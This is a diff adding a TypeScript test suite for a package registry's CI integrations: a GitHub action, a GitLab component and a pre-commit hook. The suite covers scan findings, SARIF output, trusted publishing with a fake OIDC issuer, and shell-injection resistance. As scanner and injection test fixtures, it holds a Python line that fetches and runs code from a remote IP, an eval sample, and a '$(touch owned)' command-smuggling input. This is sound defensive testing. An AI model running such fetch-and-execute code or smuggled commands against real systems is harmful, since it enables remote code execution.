@@ -1,0 +1,178 @@
+import assert from 'node:assert/strict'
+import { once } from 'node:events'
+import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { after, before, describe, it } from 'node:test'
+import { parse } from 'yaml'
+import { ciIssuers } from '../../../server/src/packs/trusted-publishing/issuers.ts'
+import { FakeOidcIssuer, githubClaims } from '../../../server/test/fakes/oidc-issuer.ts'
+import { type TestPublisher, testPublisher } from '../../../server/test/publishing.ts'
+import { World } from '../../../server/test/world.ts'
+import { folderWith, packOf } from '../run.test-support.ts'
+import { type Job, type JobResult, runAction, runComponent } from './runner.test-support.ts'
+
+const root = join(import.meta.dirname, '../../..')
+const read = (path: string) => readFile(join(root, path), 'utf8')
+
+let world: World
+let ci: FakeOidcIssuer
+let acme: TestPublisher
+let bin: string
+let registryUrl: string
+
+before(async () => {
+  ci = await FakeOidcIssuer.at('https://ci.test', () => world.now())
+  const issuers = ciIssuers([{ kind: 'github', url: ci.url }], () => world.now(), { fetch: ci.fetch })
+  world = await World.open({ ciIssuers: issuers })
+  acme = await testPublisher(world, { id: 'acme' })
+  registryUrl = await world.listen()
+  bin = await mkdtemp(join(tmpdir(), 'nodeyard-ci-'))
+  // The package is not published, so npx runs the program of this repository.
+  const program = join(root, 'cli/src/nodeyard.ts')
+  await writeFile(
+    join(bin, 'npx'),
+    `#!/bin/bash\n[ "$1" = --yes ] && shift\n[[ "$1" = nodeyard@* ]] || exit 9\nshift\nexec "${process.execPath}" "${program}" "$@"\n`,
+  )
+  await chmod(join(bin, 'npx'), 0o755)
+})
+after(async () => {
+  await world.close()
+  await rm(bin, { recursive: true, force: true })
+})
+
+const jobIn = (folder: string, env: Record<string, string> = {}): Job => ({
+  folder,
+  env: {
+    PATH: `${bin}:${process.env['PATH']}`,
+    NODEYARD_KEYCHAIN: 'off',
+    NODEYARD_CONFIG_DIR: bin,
+    LANG: 'C',
+    ...env,
+  },
+})
+
+/** Runs the registry's jobs while a CI job waits for its version. */
+async function withJobs<Result>(work: Promise<Result>): Promise<Result> {
+  let isDone = false
+  const done = work.finally(() => {
+    isDone = true
+  })
+  while (!isDone)
+    await Promise.race([done, world.runJobs().then(() => once(world.app.fastify.server, 'request'))])
+  return done
+}
+
+async function trust(nodeId: string): Promise<void> {
+  await world.given.trustedPublisher({
+    ...{ publisher_id: acme.id, node_id: nodeId, created_by: acme.ownerId, issuer: ci.url },
+  })
+}
+
+const risky = 'def run(x):\n    eval(x)\n'
+
+describe('the GitHub action', () => {
+  const act = async (given: Record<string, string>, job: Job): Promise<JobResult> =>
+    runAction(await read('ci/github/action.yml'), { registry: registryUrl, ...given }, job)
+
+  it('puts findings on the lines of a pull request', async () => {
+    const folder = await folderWith({ ...packOf('checked', 'acme'), 'risky.py': risky })
+    const { code, output } = await act({}, jobIn(folder))
+    assert.equal(code, 0, output)
+    assert.match(output, /^::warning file=risky\.py,line=2,title=dynamic-code \(medium\)::/m)
+  })
+
+  it('fails for a version that would be held, and writes SARIF first', async () => {
+    const danger = 'import requests\nexec(requests.get("http://203.0.113.9").text)\n'
+    const folder = await folderWith({ ...packOf('held', 'acme'), 'bad.py': danger })
+    const { code, output } = await act({ sarif: 'out.sarif' }, jobIn(folder))
+    assert.equal(code, 2, output)
+    assert.match(output, /^::error file=bad\.py,line=2/m)
+    const sarif = JSON.parse(await readFile(join(folder, 'out.sarif'), 'utf8'))
+    assert.equal(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri, 'bad.py')
+  })
+
+  it('publishes the first release of a pack without a stored secret', async () => {
+    await trust('first-release')
+    const identity = await identityServer()
+    const folder = await folderWith(packOf('first-release', 'acme'))
+    const { code, output } = await withJobs(act({ command: 'publish' }, jobIn(folder, identity)))
+    assert.equal(code, 0, output)
+    assert.match(output, /^::add-mask::/m)
+    assert.match(output, /first-release 1\.0\.0 is live\./)
+  })
+
+  it('explains a build that is not trusted', async () => {
+    const folder = await folderWith(packOf('untrusted', 'acme'))
+    const { code, output } = await act({ command: 'publish' }, jobIn(folder, await identityServer()))
+    assert.equal(code, 1)
+    assert.match(output, /The registry refused \(\d+\): /)
+  })
+
+  it('passes no input to the shell as code', async () => {
+    const folder = await folderWith(packOf('quoted', 'acme'))
+    const { output } = await act({ path: '$(touch owned)' }, jobIn(folder))
+    assert.match(output, /no such file or folder/)
+    await assert.rejects(readFile(join(folder, 'owned')))
+  })
+})
+
+describe('the GitLab component', () => {
+  const run = async (name: string, folder: string) =>
+    runComponent(
+      await read('templates/nodeyard.yml'),
+      name,
+      { registry: registryUrl },
+      {
+        ...jobIn(folder),
+        mint: (aud) => ci.mint({ aud, ...githubClaims() }),
+      },
+    )
+
+  it('reports code quality', async () => {
+    const folder = await folderWith({ ...packOf('quality', 'acme'), 'risky.py': risky })
+    const { code, output, reports } = await run('nodeyard-check', folder)
+    assert.equal(code, 0, output)
+    const [entry] = JSON.parse(await readFile(join(folder, reports ?? ''), 'utf8'))
+    assert.deepEqual([entry.location, entry.severity], [{ path: 'risky.py', lines: { begin: 2 } }, 'major'])
+  })
+
+  it('publishes tags without a stored secret', async () => {
+    await trust('by-tag')
+    const { code, output } = await withJobs(
+      run('nodeyard-publish', await folderWith(packOf('by-tag', 'acme'))),
+    )
+    assert.equal(code, 0, output)
+    assert.match(output, /by-tag 1\.0\.0 is live\./)
+  })
+})
+
+describe('the pre-commit hook', () => {
+  it('runs the check on the whole pack', async () => {
+    const [hook] = parse(await read('.pre-commit-hooks.yaml'))
+    assert.deepEqual([hook.pass_filenames, hook.language], [false, 'system'])
+    const folder = await folderWith(packOf('hooked', 'acme'))
+    const { stdout } = await import('node:child_process').then(({ spawnSync }) =>
+      spawnSync('bash', ['-c', hook.entry], { cwd: folder, env: jobIn(folder).env, encoding: 'utf8' }),
+    )
+    assert.match(stdout, /would list this version/)
+  })
+})
+
+/** Plays the part of the service that gives a job its identity. */
+async function identityServer(): Promise<Record<string, string>> {
+  const server = createServer(async ({ url = '', headers }, response) => {
+    assert.equal(headers.authorization, 'Bearer of-the-job')
+    const aud = new URL(url, 'http://ci.test').searchParams.get('audience')
+    response.end(JSON.stringify({ value: await ci.mint({ aud, ...githubClaims() }) }))
+  }).listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  server.unref()
+  const bound = server.address()
+  assert.ok(bound !== null && typeof bound === 'object')
+  return {
+    ACTIONS_ID_TOKEN_REQUEST_URL: `http://127.0.0.1:${bound.port}/token?api-version=2`,
+    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'of-the-job',
+  }
+}
